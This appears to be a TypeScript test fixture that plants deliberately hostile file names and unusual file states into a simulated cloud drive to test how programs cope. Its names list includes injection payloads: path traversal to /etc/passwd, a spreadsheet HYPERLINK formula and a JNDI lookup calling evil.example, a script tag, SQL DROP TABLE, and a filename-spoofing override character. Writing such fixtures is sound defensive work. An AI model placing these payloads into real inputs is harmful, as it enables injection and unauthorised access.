/** Every name and state that breaks naive programs, once each. */
import { principal } from '../principals.ts'
import { type Extras, type Item, shortcutMime } from '../state.ts'
import { googleType, grantTo } from './office.ts'
import { blobSize, dayMs, type Ground, plant, plantFolder } from './plant.ts'

const names = [
  ' leading and trailing ',
  '..',
  '.',
  'a/b\\c:d*e?f"g<h>i|j',
  '../../etc/passwd',
  'CON',
  'nul.txt',
  'line\nbreak\tand tab',
  '=HYPERLINK("http://evil.example","x")',
  '<script>alert(1)</script>.html',
  'O\'Brien\'s "plan" & co.',
  '<!channel> *bold* `code` @here',
  '\u202Egpj.exe',
  'Caf\u00e9.txt',
  'Cafe\u0301.txt',
  'README.TXT',
  'readme.txt',
  '\u{1F4A9}\u{1F468}\u200D\u{1F469}\u200D\u{1F467}.png',
  '\u0645\u064A\u0632\u0627\u0646\u064A\u0629.pdf',
  '%2e%2e%2f',
  '\u0024{jndi:ldap://evil.example/a}',
  "'; DROP TABLE item; --",
  'duplicate.txt',
  'duplicate.txt',
  'x'.repeat(1000),
  'no extension',
  '.hidden',
  'ends with dot.',
  '\u00a0',
] as const

const natives = ['document', 'spreadsheet', 'presentation', 'drawing', 'form', 'site', 'map', 'script', 'jam', 'vid'] as const

function plantStates(ground: Ground, top: Item): void {
  const text = (name: string, more?: Extras, size = blobSize(ground)) =>
    plant(ground, top, { name, mime: 'text/plain', size, ...(more && { more }) })
  text('empty.txt', undefined, 0)
  text('flagged as malware.exe', { abusive: true })
  text('no download.txt', { restrictReaders: true, restrictWriters: true })
  text('no copy for readers.txt', { copyRequiresWriter: true })
  text('client-side encrypted.docx', {
    encryption: {
      encryptionState: 'encrypted',
      decryptionMetadata: { kaclsId: '1', kaclsName: 'practice', keyFormat: 'tinkAesGcmKey', wrappedKey: 'AAAA' },
    },
  })
  text('locked.txt', { lock: { reason: 'Final', ownerRestricted: true, by: ground.people[0] ?? '', at: ground.epoch } })
  text('many properties.txt', { properties: Object.fromEntries(Array.from({ length: 30 }, (_, i) => [`key-${i}`, 'v'.repeat(100)])) })
  text('with a resource key.txt', { resourceKey: '0-practiceKey' })
  plant(ground, top, { name: 'too large to export', mime: googleType('document'), size: 14_000_000, more: { paragraphs: 60_000 } })
  for (const kind of natives) plant(ground, top, { name: `Google ${kind}`, mime: googleType(kind), size: 4096 })
}

function plantSharing(ground: Ground, top: Item): void {
  const limited = plantFolder(ground, top, 'Limited access', {
    more: { limited: true },
    grants: [grantTo(ground, ground.people[1] ?? '', 'writer')],
  })
  plant(ground, plantFolder(ground, limited, 'Inside'), { name: 'secret.txt', mime: 'text/plain', size: blobSize(ground) })
  const shared = plantFolder(ground, top, 'Shared folder', { grants: [grantTo(ground, 'partner@external.example', 'writer')] })
  plant(ground, shared, { name: 'inherits.txt', mime: 'text/plain', size: blobSize(ground) })
  const anyone = { ...grantTo(ground, 'anyone', 'reader'), to: principal(ground.world, 'anyone', '') }
  const domain = { ...grantTo(ground, 'domain', 'commenter'), to: principal(ground.world, 'domain', ground.world.directory.domain) }
  plant(ground, shared, {
    name: 'open to the world.txt',
    mime: 'text/plain',
    size: 100,
    grants: [anyone, domain, grantTo(ground, 'auditor@external.example', 'reader', ground.bornAt + 90 * dayMs)],
  })
}

function plantTrash(ground: Ground, top: Item): void {
  const by = { trashedBy: ground.people[0] ?? '' }
  const bin = plantFolder(ground, top, 'Trashed folder', { trashedAt: ground.bornAt - 3 * dayMs, more: by })
  plant(ground, bin, { name: 'trashed with its folder.txt', mime: 'text/plain', size: 50 })
  plant(ground, bin, {
    name: 'trashed before its folder.txt',
    mime: 'text/plain',
    size: 50,
    trashedAt: ground.bornAt - 9 * dayMs,
    more: by,
  })
}

function plantShortcuts(ground: Ground, top: Item): void {
  const target = plant(ground, top, { name: 'target.txt', mime: 'text/plain', size: 10 })
  const shortcut = (name: string, targetId: string, targetMime: string) =>
    plant(ground, top, { name, mime: shortcutMime, more: { shortcut: { targetId, targetMime } } })
  shortcut('to a file', target.id, target.mime)
  shortcut('to the folder it lies in', top.id, top.mime)
  shortcut('dangling', '1AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA', 'text/plain')
}

/** Plants all of it into folders of one drive and returns them. */
export function plantHostile(ground: Ground): readonly Item[] {
  const named = plantFolder(ground, ground.drive.top, 'Names')
  for (const name of names) plant(ground, named, { name, mime: 'text/plain', size: blobSize(ground) })
  for (const name of names.slice(0, 8)) plantFolder(ground, named, name)
  const states = plantFolder(ground, ground.drive.top, 'States')
  plantStates(ground, states)
  plantSharing(ground, states)
  plantTrash(ground, states)
  plantShortcuts(ground, states)
  let deep = plantFolder(ground, ground.drive.top, 'Level 1')
  for (let level = 2; level <= 100; level++) deep = plantFolder(ground, deep, `Level ${level}`)
  plant(ground, deep, { name: 'at the bottom.txt', mime: 'text/plain', size: 64 })
  return [named, states]
}
